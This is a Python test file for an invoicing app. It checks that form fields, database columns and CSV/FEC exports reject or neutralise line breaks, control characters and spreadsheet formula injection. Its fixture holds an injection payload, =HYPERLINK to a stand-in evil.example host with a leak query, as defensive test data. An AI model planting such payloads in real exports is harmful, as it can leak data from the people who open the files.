"""Single-line fields, stored lines and exported cells (review finding 3, as a class).

A line break or a control character in a name, a reference, an address line, a title or a
label is refused beside the field by every form; one that comes another way is collapsed by
the column type; every cell of every export is one line and cannot start a formula, and the
CSV and FEC writers never let a separator or a line break through.
"""

from __future__ import annotations

import importlib
import pkgutil
import re
from decimal import Decimal

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st
from werkzeug.datastructures import MultiDict
from wtforms import Form, PasswordField, SelectFieldBase, StringField, TextAreaField
from wtforms.fields import FieldList, FormField

import ecoprod
from ecoprod.accounts.models import SignupRequest, User
from ecoprod.csvsafe import csv_line, fec_line, safe_cell
from ecoprod.customers.models import Customer
from ecoprod.database import Base, Line
from ecoprod.extensions import db
from ecoprod.forms import BaseForm, SubForm
from ecoprod.i18n import local_today
from ecoprod.notifications.models import OutboxEmail
from ecoprod.tenancy import scoped_to
from ecoprod.text import NOT_IN_A_LINE
from tests.conftest import login_as, post
from tests.factories import accepted_order

EVIL = 'Evil SARL\r\n=HYPERLINK("http://evil.example/?leak","Cliquez")|X|Y'
SINGLE_LINE_REFUSED = ["a\r\nb", "a\nb", "a\rb", "a\tb", "a\x01b", "a\x1bb", "a\x85b", "a\u2028b", "a\x7fb"]
TEXT_REFUSED = ["a\x01b", "a\x0bb", "a\x1bb", "a\x7fb"]


def _all_form_classes() -> list[type[Form]]:
    for module in pkgutil.walk_packages(ecoprod.__path__, "ecoprod."):
        importlib.import_module(module.name)
    found, todo = set(), [Form]
    while todo:
        for sub in todo.pop().__subclasses__():
            if sub.__module__.startswith("ecoprod.") and sub not in found:
                found.add(sub)
            todo.append(sub)
    return sorted(found, key=lambda cls: f"{cls.__module__}.{cls.__qualname__}")


FORMS = _all_form_classes()


def test_the_forms_were_found():
    names = {cls.__name__ for cls in FORMS}
    assert {"SignupForm", "CustomerForm", "QuoteForm", "InvoiceForm", "OperationForm"} <= names


@pytest.mark.parametrize("form_class", FORMS, ids=lambda cls: f"{cls.__module__}.{cls.__qualname__}")
def test_every_form_is_a_page_form_or_a_sub_form(form_class):
    assert issubclass(form_class, BaseForm | SubForm)


def _text_fields(form):
    """Every text field of a form, nested sub-forms and rows included."""
    for field in form:
        if isinstance(field, FieldList):
            for entry in field.entries:
                yield from _text_fields(entry.form) if isinstance(entry, FormField) else [entry]
        elif isinstance(field, FormField):
            yield from _text_fields(field.form)
        elif isinstance(field, StringField) and not isinstance(field, PasswordField):
            yield field


def _choices_anywhere(form):
    for field in form:
        if isinstance(field, FieldList):
            for entry in field.entries:
                if isinstance(entry, FormField):
                    _choices_anywhere(entry.form)
        elif isinstance(field, FormField):
            _choices_anywhere(field.form)
        elif isinstance(field, SelectFieldBase) and getattr(field, "choices", None) is None:
            field.choices = []


def _posted(form_class, value_for):
    blank = form_class(formdata=None, meta={"csrf": False})
    data = MultiDict((field.name, value_for(field)) for field in _text_fields(blank))
    form = form_class(formdata=data, meta={"csrf": False})
    _choices_anywhere(form)
    form.validate()
    return form


@pytest.mark.parametrize("form_class", FORMS, ids=lambda cls: f"{cls.__module__}.{cls.__qualname__}")
def test_every_single_line_field_refuses_line_breaks_and_controls(app, form_class):
    with app.test_request_context():
        for bad in SINGLE_LINE_REFUSED:
            form = _posted(form_class, lambda f, bad=bad: "x" if isinstance(f, TextAreaField) else bad)
            for field in _text_fields(form):
                if isinstance(field, TextAreaField) or field.type == "CSRFTokenField":
                    continue
                # Refused beside the field, or (e-mail addresses) normalised without them.
                assert field.errors or not NOT_IN_A_LINE.search(str(field.data or "")), (
                    f"{form_class.__name__}.{field.name} took {bad!r}"
                )


@pytest.mark.parametrize("form_class", FORMS, ids=lambda cls: f"{cls.__module__}.{cls.__qualname__}")
def test_every_text_area_keeps_line_breaks_and_refuses_controls(app, form_class):
    with app.test_request_context():
        areas = [
            f
            for f in _text_fields(form_class(formdata=None, meta={"csrf": False}))
            if isinstance(f, TextAreaField)
        ]
        if not areas:
            return
        form = _posted(
            form_class, lambda f: "ligne 1\r\nligne 2\tfin" if isinstance(f, TextAreaField) else "x"
        )
        for field in _text_fields(form):
            if isinstance(field, TextAreaField):
                assert not any("contrôle" in str(e) or "control" in str(e) for e in field.errors)
        for bad in TEXT_REFUSED:
            form = _posted(form_class, lambda f, bad=bad: bad if isinstance(f, TextAreaField) else "x")
            for field in _text_fields(form):
                if isinstance(field, TextAreaField):
                    assert any("contrôle" in str(e) or "control" in str(e) for e in field.errors), field.name


def test_the_reviewers_sign_up_is_refused_beside_the_field_and_saves_nothing(world, client):
    response = post(
        client,
        "/signup/alpha",
        {"company_name": EVIL, "siret": "", "full_name": "Eve Vil", "email": "eve@evil.example"},
    )
    page = response.get_data(as_text=True)
    assert 'id="company_name-error"' in page and "tient sur une ligne" in page
    assert db.session.scalar(sa.select(sa.func.count()).select_from(SignupRequest)) == 0
    assert (
        db.session.scalar(
            sa.select(sa.func.count()).select_from(User).where(User.email == "eve@evil.example")
        )
        == 0
    )
    assert (
        db.session.scalar(
            sa.select(sa.func.count()).select_from(OutboxEmail).where(OutboxEmail.template.like("signup%"))
        )
        == 0
    )


def test_a_staff_form_refuses_it_too(world, client):
    login_as(client, world.admin)
    response = post(client, f"/admin/customers/{world.company.id}/edit", {"name": EVIL})
    assert "tient sur une ligne" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Customer, world.company.id).name != EVIL


def _line_columns():
    for mapper in Base.registry.mappers:
        for column in mapper.columns:
            yield mapper.class_.__name__, column


def test_every_string_column_is_a_single_line_column():
    """A multi-line text is ``sa.Text``; every other text column collapses line breaks."""
    for model, column in _line_columns():
        if isinstance(column.type, sa.Text) or not isinstance(column.type, sa.String | Line):
            continue
        if isinstance(column.type, sa.Enum):
            continue
        assert isinstance(column.type, Line), f"{model}.{column.name} is {column.type!r}"


def test_a_line_that_comes_another_way_is_collapsed_in_the_database(world):
    world.company.name = EVIL
    db.session.commit()
    stored = db.session.execute(
        sa.text("SELECT name FROM customers WHERE id = :id"), {"id": world.company.id}
    ).scalar()
    assert "\r" not in stored and "\n" not in stored
    assert stored == 'Evil SARL =HYPERLINK("http://evil.example/?leak","Cliquez")|X|Y'


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1", "-1", "@SUM(A1)", " =1+1", "\t=1", "\r=1", "a\r\n=HYPERLINK(x)", "\uff1d1+1", "\ufe661"],
)
def test_a_cell_that_would_start_a_formula_is_neutralised(value):
    cell = safe_cell(value)
    assert cell.startswith("'") or "=" not in cell.split(" ", 1)[0]
    assert not re.search(r"[\r\n\t]", cell)


@given(st.lists(st.text(max_size=40), min_size=1, max_size=20))
def test_no_separator_nor_line_break_gets_through_the_writers(cells):
    fec = fec_line(cells)
    assert fec.endswith("\r\n") and fec.count("\r") == 1 and fec.count("\n") == 1
    assert fec[:-2].split("|").__len__() == len(cells)
    csv = csv_line(cells)
    assert csv.endswith("\r\n") and csv.count("\r") == 1 and csv.count("\n") == 1
    for row in (fec[:-2].split("|"),):
        for cell in row:
            first = cell[:1]
            assert first not in "=+-@\uff1d\uff0b\uff0d\uff20" or not first


def test_the_fec_and_the_journal_keep_their_shape_whatever_the_buyer_is_called(app, client, factory, world):
    """The reviewer's company name, stored by a path that skips the form (raw SQL here)."""
    db.session.execute(
        sa.text("UPDATE customers SET name = :name WHERE id = :id"), {"name": EVIL, "id": world.company.id}
    )
    db.session.commit()
    db.session.expire_all()
    order = accepted_order(factory, world, "Export", [("labour", "Soudure\r\n=1+1", "2", "45", "20")])
    from ecoprod.invoicing import services
    from tests.factories import deliver

    deliver(world, order, str(order.lines[0].quantity))
    with scoped_to(db.session, world.school.id):
        services.issue(services.draft_invoice([order], world.admin), world.admin)
        db.session.commit()
    login_as(client, world.admin)
    today = local_today().isoformat()
    fec = client.get(f"/exports/fec.txt?start={today}&end={today}").get_data(as_text=True)
    lines = fec.split("\r\n")
    assert lines[-1] == ""
    assert all(len(line.split("|")) == 18 for line in lines[:-1]), lines
    assert all(not cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line.split("|"))
    journal = client.get(f"/exports/journal.csv?start={today}&end={today}").get_data(as_text=True)
    rows = journal.split("\r\n")[:-1]
    assert len(rows) == 1 + 3 and all("\n" not in row for row in rows)
    assert all(len(row.split(";")) == 9 for row in rows)
    assert Decimal(1)
